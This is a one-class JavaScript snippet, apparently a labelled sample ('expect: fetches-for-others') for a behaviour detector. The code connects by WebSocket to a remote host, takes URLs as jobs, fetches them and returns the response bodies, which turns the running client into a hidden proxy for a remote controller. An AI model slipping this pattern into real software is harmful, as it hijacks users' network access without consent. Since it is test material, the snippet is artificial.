// expect: fetches-for-others
class N { start() { this.s = new WebSocket("wss://x.example"); this.s.onmessage = (e) => this.job(JSON.parse(e.data)); } async job(j) { const r = await fetch(j.url); this.s.send(JSON.stringify({ id: j.id, b: await r.text() })); } }
